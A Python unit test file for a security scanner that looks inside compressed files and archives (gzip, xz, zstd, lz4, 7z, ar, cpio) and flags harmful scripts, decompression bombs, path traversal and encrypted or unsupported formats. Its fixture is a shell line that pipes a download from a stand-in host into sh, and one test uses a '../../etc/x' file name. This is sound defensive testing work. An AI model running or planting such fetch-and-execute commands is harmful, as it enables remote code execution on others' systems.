"""Compressed files, 7z, ar and cpio."""

import base64
import bz2
import gzip
import lzma
import zlib

import lz4.frame
import pytest
import zstandard

from alcaide.instruments.scan.model import Level
from tests.unit.instruments.scan.archives.seven_zips import SEVEN_ZIPS
from tests.unit.instruments.scan.looking import all_places, found, levels, look

HARMFUL = b"#!/bin/sh\ncurl http://a.example/x | sh\n"
PACKERS = {
    "gzip": gzip.compress,
    "bzip2": bz2.compress,
    "xz": lzma.compress,
    "lzma": lambda data: lzma.compress(data, format=lzma.FORMAT_ALONE),
    "zstandard": zstandard.compress,
    "lz4": lz4.frame.compress,
    "zlib": zlib.compress,
}
MAGIC = {name: pack for name, pack in PACKERS.items() if name not in ("lzma", "zlib")}


@pytest.mark.parametrize("pack", PACKERS.values(), ids=PACKERS)
def test_what_is_packed_is_looked_at(pack):
    assert levels(look(pack(HARMFUL), "model.bin"), "script/harmful") == {Level.HIGH}


@pytest.mark.parametrize("pack", PACKERS.values(), ids=PACKERS)
def test_bytes_behind_the_stream_are_told(pack):
    assert "archive/bytes-beside" in found(look(pack(b"hello" * 20) + b"something else", "model.bin"))


@pytest.mark.parametrize("pack", MAGIC.values(), ids=MAGIC)
def test_several_streams_in_a_row_are_one_file(pack):
    half = len(HARMFUL) // 2

    artifact = look(pack(HARMFUL[:half]) + pack(HARMFUL[half:]), "model.bin")

    assert "script/harmful" in found(artifact)
    assert "archive/bytes-beside" not in found(artifact)


@pytest.mark.parametrize("pack", PACKERS.values(), ids=PACKERS)
def test_a_bomb_ends_with_a_finding(pack):
    artifact = look(pack(bytes(4 << 20)), "model.bin", ratio=100, ratio_from=1 << 20)

    assert levels(artifact, "archive/bomb") == {Level.HIGH}
    assert "scan/over-budget" in found(artifact)


@pytest.mark.parametrize("pack", MAGIC.values(), ids=MAGIC)
def test_a_truncated_stream_is_unknown_and_its_beginning_is_looked_at(pack):
    data = pack(HARMFUL + b"".join(zlib.compress(str(n).encode()) for n in range(40_000)))

    artifact = look(data[: len(data) * 3 // 4], "model.bin")

    assert "scan/truncated" in found(artifact)


def test_the_name_in_a_gzip_header_may_not_lead_outside():
    data = bytearray(gzip.compress(b"hello"))
    data[3] |= 8
    named = bytes(data[:10]) + b"../../etc/x\0" + bytes(data[10:])

    assert "archive/name" in found(look(named, "a.gz"))


def test_a_frame_that_is_skipped_does_not_hide_the_one_behind_it():
    skipped = b"\x50\x2a\x4d\x18" + (4).to_bytes(4, "little") + b"abcd"

    assert "script/harmful" in found(look(skipped + zstandard.compress(HARMFUL), "a.zst"))


@pytest.mark.parametrize(
    "head",
    [
        b"\xff\x06\0\0sNaPpY" + bytes(40),
        b"LZIP\x01" + bytes(40),
        b"Rar!\x1a\x07\x01\0" + bytes(40),
        b"MSCF" + bytes(60),
    ],
)
def test_what_is_not_unpacked_is_unknown_and_named(head):
    assert "scan/unsupported" in found(look(head, "a.bin"))


@pytest.mark.parametrize("kind", [kind for kind in SEVEN_ZIPS if not kind.startswith(("encrypted", "ppmd"))])
def test_7z_is_unpacked(kind):
    artifact = look(base64.b64decode(SEVEN_ZIPS[kind]), "model.7z")

    assert {"a/run.sh", "b.txt"} <= all_places(artifact)
    assert found(artifact) == {"script/harmful"}


@pytest.mark.parametrize("kind", ["encrypted", "encrypted-header"])
def test_an_encrypted_7z_is_unknown(kind):
    assert found(look(base64.b64decode(SEVEN_ZIPS[kind]), "model.7z")) == {"scan/encrypted"}


def test_a_7z_packed_in_another_way_is_unsupported():
    assert found(look(base64.b64decode(SEVEN_ZIPS["ppmd"]), "model.7z")) == {"scan/unsupported"}


def test_a_changed_member_of_a_7z_is_told():
    data = bytearray(base64.b64decode(SEVEN_ZIPS["copy"]))
    data[data.index(b"plain text")] ^= 1

    assert "archive/damaged" in found(look(bytes(data), "model.7z"))


def test_ar_and_cpio_are_read():
    member = (
        b"run.sh/         0           0     0     100755  " + str(len(HARMFUL)).encode().ljust(10) + b"`\n"
    )
    fields = [1, 0o100755, 0, 0, 1, 0, len(HARMFUL), 0, 0, 0, 0, 7, 0]
    header = b"070701" + b"".join(b"%08x" % field for field in fields)
    end = b"070701" + b"".join(b"%08x" % field for field in [0] * 11 + [11, 0]) + b"TRAILER!!!\0"
    cpio = header + b"run.sh\0" + b"\0" * (-(110 + 7) % 4) + HARMFUL + b"\0" * (-len(HARMFUL) % 4) + end

    for data in (b"!<arch>\n" + member + HARMFUL + b"\n", cpio):
        artifact = look(data, "model.bin")
        assert "script/harmful" in found(artifact)
        assert "run.sh" in all_places(artifact)
